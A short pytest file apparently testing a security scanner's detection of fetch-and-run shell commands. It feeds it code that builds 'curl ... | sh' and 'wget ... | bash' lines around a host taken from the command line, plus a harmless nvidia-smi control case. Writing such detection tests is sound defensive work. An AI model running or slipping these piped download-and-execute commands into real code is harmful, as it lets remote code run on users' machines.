"""Session 54 (lead): what the lead changed while merging, each with the attack it holds."""

from __future__ import annotations

import pytest

import redteam_kit as kit

FETCH_AND_RUN = "remote-code.fetch-and-run-command"


@pytest.mark.parametrize("command", [
    'f"curl -s {host}/boot | sh"',
    '"curl -s %s/boot | sh" % host',
    '"curl -s {}/boot | sh".format(host)',
    'f"wget -qO- {host}/x | bash"',
])
def test_a_command_spelled_around_an_unknown_part_meets_the_patterns(command: str) -> None:
    """sketch.py read an f-string's or a template's spelled text only when some part folded: the host from the
    command line left `curl ... | sh` unread, a program run (leftovers54's find)."""
    report = kit.scan_text(f"import subprocess, sys\nhost = sys.argv[1]\nsubprocess.run({command}, shell=True)\n")
    assert kit.holds(report, FETCH_AND_RUN)


def test_a_plain_command_around_an_unknown_part_is_no_fetch() -> None:
    report = kit.scan_text('import subprocess, sys\ngpu = sys.argv[1]\n'
                           'subprocess.run(f"nvidia-smi -i {gpu} --query-gpu=memory.used", shell=True)\n')
    assert not kit.holds(report, FETCH_AND_RUN)
